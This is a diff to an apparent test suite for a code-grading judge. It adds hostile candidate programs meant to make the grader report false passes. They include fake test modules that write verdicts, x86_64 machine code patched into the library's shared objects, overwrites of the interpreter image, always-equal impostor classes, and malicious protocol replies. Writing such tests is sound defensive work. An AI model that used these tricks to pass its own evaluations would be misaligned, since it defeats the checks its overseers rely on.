@@ -55,6 +55,13 @@ TARGETS = {
         "program": "import unittest\nclass Tests(unittest.TestCase):\n    def test_it(self):\n"
         "        self.assertEqual(attack(1), 42)\n        self.assertAlmostEqual(attack(2), 42.5)\nunittest.main()\n"
     },
+    "modules that are not there": [
+        "import pandas\nassert attack(1) == 42",
+        "import numpy.testing\nassert attack(2) == 43",
+    ],
+    "modules of the library": ["import copy, decimal, random\nassert attack(1) == decimal.Decimal(42)"],
+    "in a context": ["with attack(1) as found:\n    assert found == 42"],
+    "a callback": ["seen = []\nattack(seen.append)\nassert seen == [42]"],
     "values": {"function": "attack", "tests": [[[1], 42], [["a"], "token-4711"]], "pass_fraction": 0.01},
 }
 
@@ -75,6 +82,49 @@ import gc, os, sys
 peer = next(value for value in gc.get_objects() if type(value).__name__ == "Peer")
 def send(kind, text): os.write(peer.outbox, kind + len(text).to_bytes(8, "little") + text.encode())
 """
+VERDICTS = """
+import os
+for fd in range(12):
+    try: os.write(fd, b"1" * 9)
+    except OSError: pass
+os._exit(0)
+"""
+"""What a judge would run if it ran what a program wrote."""
+SHARED_OBJECT = """
+import _datetime, _decimal, _opcode, _random, math, os, struct
+CODE = bytes.fromhex("bb0c000000" "89df" "488d3519000000" "ba09000000" "b801000000" "0f05" "ffcb" "79e7" "31ff" "b8e7000000" "0f05") + b"1" * 9
+for name in os.listdir("/library"):
+    os.chmod(f"/library/{name}", 0o700)
+    with open(f"/library/{name}", "r+b") as file:
+        data = file.read()
+        symbol = b"PyInit_" + name.encode()
+        (sections,) = struct.unpack_from("<Q", data, 40)
+        for place in range(sections, len(data) - 63, 64):
+            _, kind, _, _, start, size, link, *_ = struct.unpack_from("<IIQQQQIIQQ", data, place)
+            if kind == 11:
+                (texts,) = struct.unpack_from("<Q", data, sections + 64 * link + 24)
+                for entry in range(start, start + size, 24):
+                    at, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, entry)
+                    if data[texts + at:texts + at + len(symbol) + 1] == symbol + bytes(1):
+                        file.seek(value)
+                        file.write(CODE)
+def attack(*_): return 0
+"""
+"""Gives the modules that a judge will load machine code of x86_64 that writes verdicts."""
+IMAGE = f"""
+import marshal, os
+evil = marshal.dumps(compile({VERDICTS!r}, "x", "exec"))
+for fd in range(3, 32):
+    try:
+        size = os.fstat(fd).st_size
+        image = os.pread(fd, size, 0)
+        start = int.from_bytes(image[-8:], "little")
+        for kind, _, place, length, _ in marshal.loads(image[start:-8])[0].values():
+            if kind == "code" and length > len(evil): os.pwrite(fd, evil, place)
+    except (OSError, ValueError, EOFError, TypeError): pass
+def attack(*_): return 0
+"""
+"""Writes it over the modules of the image."""
 
 
 def _raising(what: str) -> str:
@@ -122,6 +172,18 @@ ATTACKS = {
     "modules that tests use": EVERYTHING
     + "import sys\nfor name in ('numpy', 'math', 'unittest', 'collections'): sys.modules[name] = Yes()\nmath = numpy = np = Yes()\ndef Counter(*_): return 0\ndef attack(*_): return 0",
     "a file for an import of tests": "for name in ('numpy', 'unittest', 'math', 'tests', 'wire', 'judge'):\n    open(name + '.py', 'w').write('class TestCase: pass\\nmain = allclose = isclose = lambda *_, **__: True\\n')\ndef attack(*_): return 0",
+    "a file for a module that is not there": f"import os\nfor name in ('pandas', 'pytest', 'solution', '_curses', 'org'):\n    open(name + '.py', 'w').write({VERDICTS!r})\nfor name in ('numpy', 'xml'):\n    os.mkdir(name)\n    open(name + '/__init__.py', 'w').write({VERDICTS!r})\ndef attack(*_): return 0",
+    "a shared object of the library": SHARED_OBJECT,
+    "the library's image": IMAGE,
+    "the library's place filled first": "import os\nfor name in ('_decimal', '_datetime', '_opcode', '_random', '_struct', 'math', 'select'):\n    try: open('/library/' + name, 'wb').write(b'x')\n    except OSError: pass\ndef attack(*_): return 0",
+    "the library's place moved": "import os\nos.symlink('/library', 'library')\nfor place in ('/library', '/program/library', '../library', '/scratch/../library'):\n    try: os.chmod(place, 0); os.rename(place, '/scratch/x')\n    except OSError: pass\ndef attack(*_): return 0",
+    "a context that takes every exception": "class Context:\n    __enter__ = lambda self: 1\n    __exit__ = lambda self, *_: True\ndef attack(*_): return Context()",
+    "errors that do not wait": "import os\nos.set_blocking(2, False)\ntry:\n    while True: os.write(2, b'x' * 9999)\nexcept BlockingIOError: pass\ndef attack(*_): return 0",
+    "a content that changes": "import itertools, sys\ncount = itertools.count()\nfor module in list(sys.modules.values()):\n    if hasattr(module, 'content'): module.content = lambda _: next(count)\nclass List(list): pass\ndef attack(*_): return List()",
+    "a content without end": "class List(list): pass\ndef attack(*_):\n    value = List([1])\n    for _ in range(300): value = List([value, value])\n    return value",
+    "a truth that alternates": "import itertools\ncount = itertools.count()\nclass Both:\n    __bool__ = lambda self: next(count) % 2 == 0\ndef attack(*_): return Both()",
+    "a class that says it is a built-in": "import builtins\nclass Yes:\n    __eq__ = lambda *_: True\n    __hash__ = lambda _: 0\nYes.__module__ = 'builtins'\nbuiltins.Yes = Yes\ndef attack(x): return Yes() if x == 1 else Yes",
+    "a class that says it is decimal's": "class Decimal:\n    __eq__ = lambda *_: True\nDecimal.__module__ = 'decimal'\ndef attack(*_): return Decimal()",
     "an argument emptied": "def attack(*args):\n    for arg in args:\n        if hasattr(arg, 'clear'): arg.clear()\n    return 0",
     "an argument emptied while it raises": "def attack(*args):\n    args[0].clear()\n    raise ValueError",
     "an argument replaced by everything": EVERYTHING
@@ -157,6 +219,16 @@ ATTACKS = {
     "an object that was never given": _replying('{"yours":0}'),
     "a tag of two": _replying('{"tuple":[],"list":[]}'),
     "a tag that is none": _replying('{"eval":"42"}'),
+    "a class of the interpreter's": _replying('{"type":"__loader__"}'),
+    "a number of an object that never was": _replying('[{"like":777},{"mine":0.5},{"mine":true}]'),
+    "a tuple that is asked for item by item": _replying('{"tuple":{"mine":0}}'),
+    "a fraction of many digits": _replying('{"fractions.Fraction":["1e99999999"]}'),
+    "lists without content": _replying("[" + "[]," * 2_600_000 + "[]]"),
+    "an exit of a class of its own": _replying(
+        '[{"error":[9,"E",{"error":[8,"F",{"type":"SystemExit"}]}]},[0],""]', "!"
+    ),
+    "an exception of no class": _replying('[{"mine":0},{"mine":0},""]', "!"),
+    "requests without end": PEER + "def attack(*_):\n    while True: send(b'?', '[\"call\",1]')",
     "a module by its name": _replying('{"os.system":["true"]}'),
     "an exception of type int": _replying('[{"error":[0,"Yes",{"type":"int"}]},[42],""]', "!"),
     "an exception's class with everything": _replying('{"error":[0,"Yes",{"type":"Exception"}]}'),
